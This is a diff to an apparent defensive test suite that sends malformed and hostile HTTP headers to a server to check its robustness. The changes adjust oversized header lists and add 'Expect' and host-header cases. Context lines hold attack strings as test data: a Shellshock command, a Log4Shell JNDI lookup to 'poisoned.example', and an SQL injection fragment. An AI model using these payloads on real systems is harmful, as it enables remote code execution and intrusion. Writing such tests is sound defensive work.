@@ -8,6 +8,7 @@ from tests.hostile_requests.attack import (
     POISON,
     Attack,
     Change,
+    by_a_stranger,
     harmless,
     headers,
     passed_over,
@@ -40,7 +41,7 @@ _BEHIND: Sequence[bytes] = [
 
 _TAGS: Sequence[bytes] = [
     b'"', b"W/", b"W/W/", b'"a' * 9000, b'"\xff"', b"\\", b'"*"', b"*" * 20_000, b"," * 20_000,
-    b", ".join(b'"%d"' % number for number in range(5000)), b"' OR 1=1", b'W/"' * 9000, b'"a" "b"',
+    b", ".join(b'"%d"' % number for number in range(2500)), b"' OR 1=1", b'W/"' * 9000, b'"a" "b"',
 ]  # fmt: skip
 _DATES: Sequence[bytes] = [
     b"yesterday", b"Thu, 99 Foo 99999 99:99:99 GMT", b"0", b"-1", b"9" * 5000, b"\xff",
@@ -54,7 +55,7 @@ _CONDITIONS: Sequence[tuple[bytes, bytes]] = [
 ]
 
 _ACCEPTS: Sequence[bytes] = [
-    b",".join(b"a/b%d;q=0.%d" % (number, number % 10) for number in range(2500)), b"," * 20_000,
+    b",".join(b"a/b%d;q=0.%d" % (number, number % 10) for number in range(2000)), b"," * 20_000,
     b";" * 20_000, b"*/*;q=nan", b"*/*;q=inf", b"*/*;q=-1", b"*/*;q=1e9", b"*/*;q=0." + b"9" * 9000,
     b"*/*;q=0", b"*/*;q=\xff", b"*/*;q=" + b"1" * 9000, b'"' * 20_000,
     b'text/html;x="' + b"\\" * 20_000, b"/", b"*", b"text", b"text/", b"text/html;q",
@@ -96,10 +97,10 @@ _HARMLESS: Sequence[tuple[bytes, bytes]] = [
     (b"User-Agent", b"x" * 20_000), (b"User-Agent", MARKUP.encode()),
     (b"User-Agent", b"() { :; }; id"), (b"User-Agent", b"${jndi:ldap://poisoned.example/a}"),
     (b"X-Http-Method-Override", b"DELETE"), (b"X-Http-Method", b"PUT"),
-    (b"X-Method-Override", b"PATCH"), (b"Expect", b"200-ok"), (b"Expect", b"\xff"),
-    (b"Upgrade", b"websocket"), (b"Upgrade", b"h2c"), (b"Http2-Settings", b"AAMAAABkAAQAAP__"),
-    (b"Connection", b"Upgrade, HTTP2-Settings"), (b"Connection", b"x" * 9000),
-    (b"Connection", b"keep-alive, x"), (b"Te", b"trailers, x;q=nan"),
+    (b"X-Method-Override", b"PATCH"), (b"Expect", b"200-ok"), (b"Expect", b"100-continue"),
+    (b"Expect", b"\xff"), (b"Upgrade", b"websocket"), (b"Upgrade", b"h2c"),
+    (b"Http2-Settings", b"AAMAAABkAAQAAP__"), (b"Connection", b"Upgrade, HTTP2-Settings"),
+    (b"Connection", b"x" * 9000), (b"Connection", b"keep-alive, x"), (b"Te", b"trailers, x;q=nan"),
     (b"Trailer", b"Content-Length"), (b"Max-Forwards", b"9" * 5000), (b"Content-Language", b"\xff"),
     (b"Pragma", b"x" * 9000), (b"Cache-Control", b"max-age=" + b"9" * 5000), (b"From", b"\xff"),
     (b"Proxy", b"http://poisoned.example"), (b"Proxy-Authorization", b"Basic \xff"),
@@ -126,6 +127,9 @@ def ranges() -> Iterator[Attack]:
 
 def conditions() -> Iterator[Attack]:
     """Conditions that nothing fulfils, or that are none."""
+    many = b", ".join(b'"%d"' % number for number in range(12_000))
+    change = headers((b"If-None-Match", many))
+    yield harmless("100 KB of tags", change, 400, 431, doors=READS, is_long=True)
     for name, value in _CONDITIONS:
         title = f"{name.decode()}: {shown(value)}"
         yield harmless(title, headers((name, value)), doors=READS)
@@ -146,6 +150,10 @@ def negotiation() -> Iterator[Attack]:
 
 def hosts() -> Iterator[Attack]:
     """Who the server is, said by those who should not know better."""
+    return map(by_a_stranger, _hosts())
+
+
+def _hosts() -> Iterator[Attack]:
     for name, value in _FORWARDED:
         yield harmless(f"{name.decode()}: {shown(value)}", headers((name, value)))
     for host in _HOSTS:
